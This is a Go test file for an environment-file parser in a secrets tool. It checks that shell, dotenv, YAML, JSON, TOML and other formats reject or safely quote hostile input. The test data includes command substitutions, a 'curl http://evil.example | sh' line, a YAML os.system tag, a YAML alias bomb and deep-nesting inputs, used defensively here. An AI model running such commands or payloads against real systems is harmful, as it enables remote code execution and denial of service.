package envfmt

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"

	"github.com/tacit-secrets/tacit/secret"
)

// Inputs made to be run, expanded, confused or choked on.

// read1 reads a text; the entries come as "name=value@line".
func read1(f Format, text string) (string, error) {
	entries, err := Read(strings.NewReader(text), f)
	var out []string
	for _, e := range entries {
		out = append(out, fmt.Sprintf("%s=%s@%d", e.Name, e.Value.Reveal(), e.Line))
	}
	return strings.Join(out, " | "), err
}

// refused checks that a text yields nothing and that each line is named.
func refused(t *testing.T, f Format, text string, lines ...int) {
	t.Helper()
	got, err := read1(f, text)
	if err == nil || got != "" || secret.KindOf(err) != secret.Invalid {
		t.Errorf("%s: got %q, %v; want an error of kind invalid and nothing read", f, got, err)
		return
	}
	p, ok := errors.AsType[Problems](err)
	if !ok {
		t.Fatalf("%s: %v holds no Problems", f, err)
	}
	var at []int
	for _, one := range p {
		at = append(at, one.Line)
	}
	if fmt.Sprint(at) != fmt.Sprint(lines) {
		t.Errorf("%s: problems on lines %v, want %v\n%v", f, at, lines, err)
	}
}

func accepted(t *testing.T, f Format, text, want string) {
	t.Helper()
	if got, err := read1(f, text); err != nil || got != want {
		t.Errorf("%s: got %q, %v; want %q", f, got, err, want)
	}
}

func TestCommandSubstitutionIsNeverRun(t *testing.T) {
	canary := t.TempDir() + "/canary"
	for _, inner := range []string{"$(touch " + canary + ")", "`touch " + canary + "`", "${X:=$(touch " + canary + ")}"} {
		refused(t, Shell, "A="+inner+"\n", 1)
		refused(t, Shell, "export A=\""+inner+"\"\n", 1)
		accepted(t, Shell, "export A='"+inner+"'\n", "A="+inner+"@1")
		accepted(t, Dotenv, `A="`+inner+"\"\n", "A="+inner+"@1")
		accepted(t, Systemd, `A='`+inner+"'\n", "A="+inner+"@1")
		accepted(t, Docker, `A=`+inner+"\n", "A="+inner+"@1")
		for _, f := range Formats() {
			text := write(t, f, options(f), []Entry{{Name: "A", Value: secret.Text(inner)}})
			entries, err := Read(bytes.NewReader(text), f)
			if err != nil || string(entries[0].Value.Reveal()) != inner {
				t.Errorf("%s: not read back: %v", f, err)
			}
			if f == Shell || f == Dotenv { // people source .env files too
				source := shell(t, "bash", "C.UTF-8")
				if got, err := source(save(t, t.TempDir(), text), []string{"A"}); err != nil || got["A"] != inner {
					t.Errorf("%s: bash reads %d bytes, %v", f, len(got["A"]), err)
				}
			}
		}
	}
	if _, err := os.Stat(canary); err == nil {
		t.Error("something was run")
	}
}

func TestCommandsAreNoAssignments(t *testing.T) {
	refused(t, Shell, "A=1\ncurl http://evil.example | sh\nB=2; rm x\nC=3 env\nexport D\nfoo() { :; }\n. ./other\nE=(1 2)\nF=$'x'\nG=~root\n", 2, 3, 4, 5, 6, 7, 8, 9, 10)
}

func TestExclamationMark(t *testing.T) {
	accepted(t, Shell, "A='!!'\nB=\"a!b\"\n", "A=!!@1 | B=a!b@2")
	accepted(t, Dotenv, "A=!!\nB=\"a!b\"\n", "A=!!@1 | B=a!b@2")
}

func TestCarriageReturn(t *testing.T) {
	refused(t, Shell, "A=1\r\nB='2'\r\n", 1, 2)
	accepted(t, Shell, "A='1\r\n2'\n", "A=1\r\n2@1")
	accepted(t, Dotenv, "A=1\r\nB='2'\r\n# c\r\nC=\"\\r\"\r\nD=4", "A=1@1 | B=2@2 | C=\r@4 | D=4@5")
	refused(t, Dotenv, "A=1\rB=2\nC='3\r4'\n# c\rD=5\n", 1, 2, 3)
	accepted(t, Systemd, "A=1\r\nB='2'\r\nC='\r'\n", "A=1@1 | B=2@2 | C=\r@3")
	refused(t, Systemd, "A=1\rB=2\n# c\rD=5\nE=\\\r\n", 1, 2, 3)
	accepted(t, Docker, "A=1\r\nB=2\r3\n", "A=1@1 | B=2\r3@2")
	refused(t, Docker, "A=1\r\r\n", 1)
	refused(t, GitHub, "A<<E\n1\r\nE\n", 1)
	refused(t, GitHub, "A=1\r\nB<<E\r\nx\nE\n", 1, 2, 3, 4)
	for f, v := range map[Format]string{Docker: "x\r", GitHub: "x\r"} {
		if err := f.Check("A", secret.Text(v)); secret.KindOf(err) != secret.Invalid {
			t.Errorf("%s: %v", f, err)
		}
	}
}

func TestByteOrderMark(t *testing.T) {
	for _, f := range Formats() {
		refused(t, f, "\ufeffA=1\n", 1)
		refused(t, f, "\xff\xfeA\x00=\x001\x00", 1)
		refused(t, f, "\xfe\xff\x00A", 1)
	}
}

func TestInvalidUTF8(t *testing.T) {
	for _, f := range Formats() {
		switch f {
		case Shell:
			entries, err := Read(strings.NewReader("A='\xff'\nB='x'\n"), f)
			if err != nil || !entries[0].Value.IsBinary() || entries[1].Value.IsBinary() {
				t.Errorf("%s: %v, %v", f, entries, err)
			}
		case JSON, YAML, TOML, Kubernetes:
			refused(t, f, "\n\n\xff\n", 3)
		default:
			refused(t, f, "A=1\nB=\xff\nC=\xed\xa0\x80\n", 2, 3)
		}
		if f != Shell && f != Kubernetes {
			if err := f.Check("A", secret.Binary([]byte{0xff})); secret.KindOf(err) != secret.Invalid {
				t.Errorf("%s holds a byte that is no text: %v", f, err)
			}
		}
	}
}

func TestNULByte(t *testing.T) {
	for _, f := range Formats() {
		refused(t, f, "\nA=\x00\n", 2)
		err := f.Check("A", secret.Text("x\x00"))
		if f.variables() != (secret.KindOf(err) == secret.Invalid) {
			t.Errorf("%s: %v", f, err)
		}
	}
}

func TestMebibyteLines(t *testing.T) {
	v := strings.Repeat(`é"'\$#	x`, 1<<20/11)
	for _, f := range Formats() {
		if f == Docker {
			refused(t, f, "A="+v+"\n", 1)
			continue
		}
		text := write(t, f, options(f), []Entry{{Name: "A", Value: secret.Text(v)}})
		entries, err := Read(bytes.NewReader(text), f)
		if err != nil || string(entries[0].Value.Reveal()) != v {
			t.Errorf("%s: not read back: %v", f, err)
		}
	}
	refused(t, Dotenv, "A=1\n"+strings.Repeat("x", 1<<20)+"\nB='\n", 2, 3)
}

func TestDuplicateNamesBothLines(t *testing.T) {
	for f, text := range map[Format]string{
		Dotenv:     "A=1\nB=2\n\nA=3\n",
		Shell:      "A=1\nB=2\n\nexport A=3\n",
		Systemd:    "A=1\nB=2\n\nA=3\n",
		Docker:     "A=1\nB=2\n\nA=3\n",
		GitHub:     "A=1\nB=2\n\nA<<E\n3\nE\n",
		JSON:       "{\"A\":1,\n\"B\":2,\n\n\"\\u0041\":3}",
		YAML:       "A: 1\nB: 2\n\n\"A\": 3\n",
		TOML:       "A = 1\nB = 2\n\n\"A\" = 3\n",
		Kubernetes: "{apiVersion: v1, kind: Secret, data: {A: MQ==,\nB: Mg==},\n\nstringData: {A: x}}",
	} {
		refused(t, f, text, 4)
		_, err := read1(f, text)
		if !strings.Contains(err.Error(), "line 4: A is given again, first on line 1") {
			t.Errorf("%s: %v", f, err)
		}
	}
}

func TestDuplicatesWithinAValue(t *testing.T) {
	refused(t, JSON, "{\"A\":{\"x\":1,\n\"x\":2}}", 2)
	refused(t, JSON, "{\"A\":[{\"x\":1,\n\"\\u0078\":2}]}", 2)
	refused(t, YAML, "A:\n  x: 1\n  x: 2\n", 3)
	refused(t, TOML, "[A]\nx = 1\nx = 2\n", 3)
	refused(t, TOML, "[A]\nx = 1\n[A]\ny = 2\n", 3)
	refused(t, TOML, "A = 1\n[A]\ny = 2\n", 2)
	refused(t, TOML, "A = {x = 1, x = 2}\n", 1)
}

func TestYAMLAnchorsAliasesAndBombs(t *testing.T) {
	refused(t, YAML, "A: &a x\nB: *a\n", 1, 2)
	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c < 'k'; c++ {
		bomb += fmt.Sprintf("%c: &%c [%s]\n", c, c, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*%c,", c-1), 9), ","))
	}
	refused(t, YAML, bomb, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10)
	refused(t, YAML, "A: {<<: {x: y}}\n", 1)
	refused(t, YAML, "A: ["+strings.Repeat("x,", 1_000_001)+"]\n", 0)
}

func TestYAMLTags(t *testing.T) {
	refused(t, YAML, "A: !!binary aGk=\nB: !!python/object/apply:os.system [x]\nC: !x y\nD: !!str 1\n", 1, 2, 3, 4)
	refused(t, YAML, "%TAG ! tag:evil.example,2000:\n---\nA: !x y\n", 3)
	refused(t, YAML, "!!map {A: b}\n", 1)
}

func TestYAMLMultipleDocuments(t *testing.T) {
	refused(t, YAML, "A: 1\n---\nB: 2\n", 2)
	refused(t, YAML, "A: 1\n---\nB: [\n", 3)
	refused(t, Kubernetes, "apiVersion: v1\nkind: Secret\n---\napiVersion: v1\nkind: Secret\n", 3)
	accepted(t, YAML, "---\nA: x\n...\n", "A=x@2")
}

func TestDeepNesting(t *testing.T) {
	const deep = 100_000
	for f, text := range map[Format]string{
		JSON: `{"A":` + strings.Repeat("[", deep) + strings.Repeat("]", deep) + "}",
		YAML: "A: " + strings.Repeat("[", deep) + strings.Repeat("]", deep),
		TOML: "A = " + strings.Repeat("[", deep) + strings.Repeat("]", deep),
	} {
		got, err := read1(f, text)
		if got != "" || secret.KindOf(err) != secret.Invalid {
			t.Errorf("%s: %d bytes, %v", f, len(got), err)
		}
	}
	for _, open := range []string{"{\"a\":", "["} {
		text := `{"A":` + strings.Repeat(open, MaxDepth+1) + "1" + strings.Repeat(map[string]string{"[": "]", "{\"a\":": "}"}[open], MaxDepth+1) + "}"
		refused(t, JSON, text, 1)
		refused(t, YAML, text, 1)
	}
	refused(t, TOML, "A = "+strings.Repeat("{a=", MaxDepth+1)+"1"+strings.Repeat("}", MaxDepth+1), 1)
	refused(t, TOML, "A"+strings.Repeat(".a", MaxDepth+1)+" = 1", 1)
	refused(t, TOML, "[A"+strings.Repeat(".a", deep)+"]", 1)
	accepted(t, JSON, `{"A":`+strings.Repeat("[", MaxDepth)+strings.Repeat("]", MaxDepth)+"}", "A="+strings.Repeat("[", MaxDepth)+strings.Repeat("]", MaxDepth)+"@1")
}

func TestNumbersKeepTheirText(t *testing.T) {
	accepted(t, JSON, `{"A":9007199254740993,"B":1.10,"C":1e400,"D":-0,"E":true,"F":123456789012345678901234567890}`,
		"A=9007199254740993@1 | B=1.10@1 | C=1e400@1 | D=-0@1 | E=true@1 | F=123456789012345678901234567890@1")
	accepted(t, YAML, "A: 9007199254740993\nB: 1.10\nC: 0777\nD: 0x1F\nE: yes\nF: 123456789012345678901234567890\nG: 1_000\nH: 2001-01-01\nI: .inf\nJ: 12:30:45\n",
		"A=9007199254740993@1 | B=1.10@2 | C=0777@3 | D=0x1F@4 | E=yes@5 | F=123456789012345678901234567890@6 | G=1_000@7 | H=2001-01-01@8 | I=.inf@9 | J=12:30:45@10")
	accepted(t, TOML, "A = 9007199254740993\nB = 1.10\nC = 0x1F\nD = 1_000\nE = true\nF = 2001-01-01 00:00:00Z\nG = inf\nH = +1e3\n",
		"A=9007199254740993@1 | B=1.10@2 | C=0x1F@3 | D=1_000@4 | E=true@5 | F=2001-01-01 00:00:00Z@6 | G=inf@7 | H=+1e3@8")
	accepted(t, YAML, "A: {n: 9007199254740993, f: 1.10}\n", `A={"n":9007199254740993,"f":1.10}@1`)
	accepted(t, TOML, "A = {n = 9007199254740993, f = 1.10}\n", `A={"n":9007199254740993,"f":1.10}@1`)
	refused(t, YAML, "A: [1]\nB:\n  x: 0777\nC: [0x1F]\nD: [.inf]\n", 3, 4, 5)
	refused(t, TOML, "A = 1\nB = [0x1F]\nC = {x = 1_000}\n[D]\nx = nan\n", 2, 3, 5)
}

func TestJSONTrailingGarbage(t *testing.T) {
	refused(t, JSON, "{\"A\":\"x\"}\n{\"B\":\"y\"}", 2)
	refused(t, JSON, "{\"A\":\"x\"}\n\nx", 3)
	refused(t, JSON, "{\"A\":\"x\",\n}", 2)
	refused(t, JSON, "// c\n{\"A\":\"x\"}", 1)
	refused(t, JSON, "{\"A\":\n\"\\ud800\"}", 1)
	refused(t, JSON, "[\"A\"]", 1)
	refused(t, JSON, "{\"A\":null,\n\"B\":null}", 1, 2)
	refused(t, JSON, "", 1)
	refused(t, JSON, "{\"\":1,\n\"a//b\":1,\n\"x\\ny\":1}", 1, 2, 3)
}

func TestTooMuch(t *testing.T) {
	many := strings.Repeat("=\n", MaxEntries)
	_, err := Read(strings.NewReader(many), Dotenv)
	if len(err.Error()) > 10_000 || !strings.Contains(err.Error(), "more") {
		t.Errorf("%d bytes of error", len(err.Error()))
	}
	var b strings.Builder
	for i := range MaxEntries + 10 {
		fmt.Fprintf(&b, "A%d=\n", i)
	}
	refused(t, Docker, b.String(), MaxEntries+1)
	refused(t, TOML, "A = ["+strings.Repeat("1,", maxNodes)+"]\n", 1)
	refused(t, TOML, "A = 1\n"+strings.Repeat("[[B]]\n", maxNodes), maxNodes/2+1)
	endless := io.MultiReader(strings.NewReader("A='"), zeros{})
	if _, err := Read(endless, Shell); secret.KindOf(err) != secret.Invalid || !strings.Contains(err.Error(), "larger") {
		t.Errorf("an endless input: %v", err)
	}
	if _, err := Read(failing{}, JSON); secret.KindOf(err) != secret.Unavailable {
		t.Errorf("an input that fails: %v", err)
	}
}

type zeros struct{}

func (zeros) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = '0'
	}
	return len(b), nil
}

type failing struct{}

func (failing) Read([]byte) (int, error)  { return 0, io.ErrUnexpectedEOF }
func (failing) Write([]byte) (int, error) { return 0, io.ErrShortWrite }

// No text that stands in an input turns up in the error: it may be a value.
func TestErrorsRepeatNothing(t *testing.T) {
	const canary = "c4n4ry"
	texts := []string{
		"A=1\nc4n4ry\n", "A='c4n4ry\n", "A=\"c4n4ry\"x\n", "c4n4ry c4n4ry=1\n", "A=x\rc4n4ry\n", "c4n4ry==\n",
		"A=$c4n4ry\n", "A: *c4n4ry\n", "A: [c4n4ry\n", "A: !c4n4ry x\n", "{\"A\": c4n4ry}", "{\"A\": \"c4n4ry", "{\"c4n4ry/\": \"\"}",
		"A = c4n4ry\n", "A = \"c4n4ry\n", "[c4n4ry\n", "'c4n4ry x' = 1\n'c4n4ry x' = 2\n", "A: \"\\c4n4ry\"\n", "? [c4n4ry]\n: x\n",
		"A<<c4n4ry\nx\n", "kind: c4n4ry\n", "apiVersion: v1\nkind: Secret\ndata: {A: c4n4ry}\n", "c4n4ry: &c4n4ry x\n", "%c4n4ry\n---\n",
		"A: @c4n4ry\n", "A: `c4n4ry\n", "A: {c4n4ry: 1, c4n4ry: 2}\n", "- c4n4ry\n",
	}
	for i, text := range texts {
		for _, f := range Formats() {
			if _, err := Read(strings.NewReader(text), f); err != nil && strings.Contains(err.Error(), canary) {
				t.Errorf("text %d as %s: the error repeats it", i, f)
			}
		}
	}
}
